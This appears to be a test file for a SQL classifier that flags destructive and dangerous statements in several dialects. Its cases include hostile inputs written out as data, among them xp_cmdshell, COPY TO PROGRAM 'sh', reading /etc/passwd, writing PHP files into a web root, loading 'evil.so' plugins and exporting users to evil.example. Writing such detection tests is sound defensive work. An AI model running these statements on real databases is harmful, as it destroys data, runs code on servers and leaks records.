import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import type { SqlDialect } from "../../src/classify/sql/tokens.ts";
import { judgeSql } from "../../src/classify/sql.ts";

/** SQL, and the operations that are found in it, in order. */
const cases: readonly (readonly [string, readonly string[], SqlDialect?])[] = [
  // Comments, strings and dollar quotes hide nothing and make nothing up.
  ["DROP/**/TABLE users", ["drop_table"]],
  ["select 1 -- drop table users", []],
  ["select 1; # drop table users", [], "mysql"],
  ["select 1--1; drop table users", ["drop_table"], "mysql"],
  ["/*!50000 drop table users */", ["drop_table"], "mysql"],
  ["/* a /* b */ drop table users; */ select 1", [], "postgres"],
  ["/* a /* b */ drop table users; -- */ select 1", ["drop_table"], "mysql"],
  ["select 'it''s; drop table users'", []],
  ["select 'a\\'; drop table users; --'", ["drop_table"], "postgres"],
  ["select 'a\\'; drop table users; --'", [], "mysql"],
  ["select E'a\\'; drop table users; --'", [], "postgres"],
  ["select $$ drop table users; $$", [], "postgres"],
  ["select $a$ x $$ drop table users; $a$", [], "postgres"],
  ['select "drop table users"', [], "mysql"],
  ["delimiter //\ndrop table users //", ["drop_table"], "mysql"],
  ["select 1\ngo\ndrop table users\ngo", ["drop_table"], "mssql"],
  ["if exists (select 1) drop table users", ["drop_table"], "mssql"],
  ["copy users from stdin;\ndrop table users\n\\.\nselect 1;", [], "postgres"],
  // What runs text runs what the text says.
  ["DO $$ BEGIN EXECUTE 'DROP TABLE ' || t; END $$", ["drop_table"], "postgres"],
  ["DO $$ BEGIN DELETE FROM users; END $$", ["delete_all"], "postgres"],
  ["DO $$ import os $$ language plpython3u", ["run_program"], "postgres"],
  ["prepare s from 'drop table users'; execute s", ["drop_table"], "mysql"],
  ["exec sp_executesql N'drop table users'", ["drop_table"], "mssql"],
  ["exec xp_cmdshell 'del x'", ["run_program"], "mssql"],
  ["select 'drop table ' || tablename from pg_tables \\gexec", ["drop_table"], "postgres"],
  ["select 'drop table ' || tablename from pg_tables;", [], "postgres"],
  ["select 1 \\g | sh\ndrop table users;", ["drop_table"], "postgres"],
  ["select 1 \\g drop.txt", [], "postgres"],
  ["execute immediate 'truncate ' || t", ["truncate"]],
  ["execute 'delete from ' || t || ' where id = 3'", []],
  ["execute 'delete from ' || t", ["delete_all"]],
  ["remove @stage/path", ["remove_files"], "snowflake"],
  ["system drop replica 'r1' from table t", ["drop_replica"]],
  ["system drop dns cache", []],
  ["install plugin x soname 'evil.so'", ["run_program"], "mysql"],
  ["create function f returns string soname 'evil.so'", ["run_program"], "mysql"],
  ["delete from users where id = any(select id from users)", ["delete_all"], "postgres"],
  ["select dblink_exec('host=x', 'drop table users')", ["drop_table"], "postgres"],
  ["create function f() returns void as $$ delete from users; $$ language sql", [], "postgres"],
  ["create trigger t after insert on a begin delete from b; update c set x = 1; end; select 1", [], "sqlite"],
  [
    "create procedure p() begin if 1 then delete from b; end if; end; drop table users",
    ["drop_table"],
    "mysql",
  ],
  // Rows.
  ["delete from users", ["delete_all"]],
  ["delete from users where id = 3", []],
  ["delete from users where 1=1", ["delete_all"]],
  ["delete from users where (true)", ["delete_all"]],
  ["delete from users where id = id", ["delete_all"]],
  ["delete from users where id is not null", ["delete_all"]],
  ["delete from users where id > 0", ["delete_all"]],
  ["delete from users where id = 4 or 1 = 1", ["delete_all"]],
  ["delete from users where id = 4 and 1 = 1", []],
  ["delete from users where not (1 = 2)", ["delete_all"]],
  ["delete from users where a between 1 and 2", []],
  ["delete from users where id >= 1", ["delete_all"]],
  ["delete from users where id >= 100", []],
  ["delete from users where id <> -1", ["delete_all"]],
  ["delete from users where id < 999999999", ["delete_all"]],
  ["delete from users where length(name) >= 0", ["delete_all"]],
  ["delete from users where length(name) > 5", []],
  ["delete from users where created_at < now()", ["delete_all"]],
  ["delete from users where created_at < now() - interval '30 days'", []],
  ["delete from users where created_at < '2099-01-01'", ["delete_all"]],
  ["delete from users where created_at < '2021-01-01'", []],
  ["delete from sessions where expires_at < now()", []],
  ["delete from users where deleted_at is not null", []],
  ["delete from users where id in (select id from users)", ["delete_all"]],
  ["delete from users where id in (select user_id from banned)", []],
  ["delete from users where id in (select id from users where stale)", []],
  ["delete from users where exists (select 1)", ["delete_all"]],
  ["delete from users u where exists (select 1 from bans b where b.id = u.id)", []],
  ["delete from users where 1 in (1, 2)", ["delete_all"]],
  ["delete from users where id not in (0)", ["delete_all"]],
  ["delete from users where not id is null", ["delete_all"]],
  ["delete from users where not (deleted_at is null)", []],
  ["with t as (select id from users) delete from users where id in (select id from t)", ["delete_all"]],
  ["with t as (select id from users where stale) delete from users where id in (select id from t)", []],
  ["with t as (select user_id from bans) delete from users where id in (select user_id from t)", []],
  ["delete from users where true::boolean", ["delete_all"], "postgres"],
  ["delete from users where 1::int = 1", ["delete_all"], "postgres"],
  ["delete from users where (select true)", ["delete_all"]],
  ["delete from users where id between 0 and 99999999", ["delete_all"]],
  ["delete from users where id between 5 and 10", []],
  ["delete from users where lower(name) = lower(name)", ["delete_all"]],
  ["delete from users where lower(name) = lower('a')", []],
  ["delete a, b from a inner join b", ["delete_all"], "mysql"],
  ["delete a from a join b on a.id = b.a_id", [], "mysql"],
  ["prepare p as delete from users", ["delete_all"], "postgres"],
  ["prepare p as select 1", [], "postgres"],
  ["set @q = 'drop table t'; prepare s from @q", ["drop_table"], "mysql"],
  ["set @q = concat('dr', 'op table t'); prepare s from @q", ["drop_table"], "mysql"],
  ["set @q = 'drop table t'; select @q", [], "mysql"],
  ["declare @s nvarchar(99) = N'drop table t'; exec sp_executesql @s", ["drop_table"], "mssql"],
  ["create event e on schedule every 1 day do delete from t", ["delete_all"], "mysql"],
  ["pragma writable_schema = on", ["unlock_schema"], "sqlite"],
  ["pragma foreign_keys = off", [], "sqlite"],
  ["delete from users where id not in (select 0)", ["delete_all"]],
  ["delete from users where id not in (1, 2)", []],
  ["delete from users where id not in (select user_id from orders)", []],
  ["delete from users u where u.id = u.id", ["delete_all"]],
  ["delete from users u where u.id > 0", ["delete_all"]],
  ["delete from users u where u.id = o.user_id", []],
  ["delete from users where name = 'a' or name <> 'a'", ["delete_all"]],
  ["delete from users where deleted_at is null or deleted_at is not null", ["delete_all"]],
  ["delete from users where name = 'a' or name <> 'b'", []],
  ["delete from users limit 1000000000", ["delete_all"], "mysql"],
  ["alter table t update x = 0 where 1", ["truncate"]],
  ["alter table t update x = 0 where id = 4", ["alter_table"]],
  ["detach table t permanently", ["detach"]],
  ["delete from users where name ~ '.*'", ["delete_all"], "postgres"],
  // Files, programs and other places.
  ["copy users to '/var/www/x.php'", ["write_file"], "postgres"],
  ["copy users to '/tmp/users.csv' csv", [], "postgres"],
  ["copy users from '/data/users.csv'", [], "postgres"],
  ["copy users from '/etc/passwd'", ["read_file"], "postgres"],
  ["copy into 's3://elsewhere/x' from users", ["export"], "snowflake"],
  ["load data infile '/etc/passwd' into table t", ["read_file"], "mysql"],
  ["load data local infile 'users.csv' into table t", [], "mysql"],
  ["insert into function url('https://evil.example/x', CSV) select * from users", ["export"]],
  ["create function f() returns text as $$ import os $$ language plpython3u", ["run_program"], "postgres"],
  ["create function f() returns int as 'x' language plpgsql", [], "postgres"],
  ["select cron.schedule('x', '* * * * *', 'drop table users')", ["drop_table"], "postgres"],
  // The server, and the work of others on it.
  ["select pg_terminate_backend(pid) from pg_stat_activity", ["end_sessions"], "postgres"],
  ["select pg_cancel_backend(42)", [], "postgres"],
  ["alter system set fsync = off", ["alter_database"], "postgres"],
  ["restore database x from disk = 'a.bak' with replace", ["restore"], "mssql"],
  ["restore filelistonly from disk = 'a.bak'", [], "mssql"],
  ["set global general_log_file = '/var/www/x.php'", ["set_global"], "mysql"],
  ["alter table users disable row level security", ["disable_row_security"], "postgres"],
  ["alter table users disable trigger all", ["alter_table"], "postgres"],
  ["delete from users where name like '%'", ["delete_all"]],
  ["delete from users where name like 'a%'", []],
  ["delete from users limit 5", [], "mysql"],
  ["delete users", ["delete_all"], "mssql"],
  ["delete from users where id in (select id from x where 1 = 1)", []],
  ["with gone as (delete from users returning *) select * from gone", ["delete_all"]],
  ["with a as (select 1) delete from users", ["delete_all"]],
  ["with a as (select 1) delete from users where id in (select * from a)", []],
  ["explain delete from users", []],
  ["explain analyze delete from users", ["delete_all"]],
  ["explain (analyze, buffers) delete from users", ["delete_all"]],
  ["explain (analyze false) delete from users", []],
  ["update users set a = 1", ["update_all"]],
  ["update users set a = 1 where id = 2", []],
  ["update users u join x on x.id = u.id set u.a = 1", [], "mysql"],
  ["insert into t values (1) on conflict (id) do update set a = 1", []],
  ["select * from t for update", []],
  ["truncate users, orders cascade", ["truncate"]],
  ["select truncate(1.5, 1)", []],
  ["insert overwrite table t select 1", ["overwrite"]],
  // Definitions.
  ["drop schema public cascade", ["drop_database"]],
  ["drop table if exists a.b", ["drop_table"]],
  ["create temp table t (a int); drop table t", []],
  ["drop view v", ["drop_view"]],
  ["drop view if exists v; create view v as select 1", ["create_view"]],
  ["drop table t; create table t (a int)", ["drop_table", "create_table"]],
  ["drop materialized view v", ["drop_view"]],
  ["alter table t drop column c", ["drop_column"]],
  ["alter table t add a int, drop b", ["drop_column"]],
  ["alter table t drop constraint c", ["alter_table"]],
  ["alter table t alter column c drop not null", ["alter_table"]],
  ["alter table t drop partition p1", ["drop_partition"]],
  ["alter table t delete where 1", ["truncate"]],
  ["create or replace table t as select 1", ["replace_table"]],
  ["create or replace view v as select 1", ["create_view"]],
  ["create table t (a int)", ["create_table"]],
  // Rights and programs.
  ["grant all on *.* to 'x'@'%'", ["grant"]],
  ["create role x superuser", ["create_role"]],
  ["drop owned by x", ["drop_owned"]],
  ["copy t to program 'sh'", ["run_program"], "postgres"],
  ["copy t to '/tmp/x.csv'", [], "postgres"],
  ["select 1 into outfile '/tmp/x'", ["write_file"], "mysql"],
];

for (const [text, operations, dialect] of cases) {
  test(`${dialect ?? "sql"}: ${text}`, () => {
    assert.deepEqual(
      judgeSql(text, dialect ?? "sql").findings.map(({ operation }) => operation),
      operations,
    );
  });
}

test("comments of any length between words change nothing", () => {
  const gap = fc.constantFrom(" ", "\n", "/* x */", "/**/", "-- y\n", "\t");
  fc.assert(
    fc.property(gap, gap, fc.constantFrom("users", '"users"', "a.users"), (one, two, table) => {
      const [finding] = judgeSql(`drop${one} table${two} ${table}`, "postgres").findings;
      assert.equal(finding?.operation, "drop_table");
    }),
    { numRuns: 60 },
  );
});

test("what stands behind the part that is read is told by how its lines begin", () => {
  const rows = "INSERT INTO t VALUES (1);\n".repeat(6000);
  assert.deepEqual(judgeSql(rows, "postgres").findings, []);
  assert.equal(judgeSql(`${rows}DROP TABLE t;`, "postgres").findings[0]?.operation, "drop_table");
});

test("no text throws, and a huge one is read in bounded time", () => {
  fc.assert(
    fc.property(
      fc.string(),
      fc.constantFrom<SqlDialect>("postgres", "mysql", "mssql", "sql"),
      (text, dialect) => {
        judgeSql(`drop ${text}`, dialect);
      },
    ),
    { numRuns: 200 },
  );
  for (const piece of ["(", "/*", "'", "$a$", "with a as (delete from x where (1=1) or ", "execute ''"]) {
    judgeSql(`${piece.repeat(20_000 / piece.length)} drop`, "postgres");
  }
});
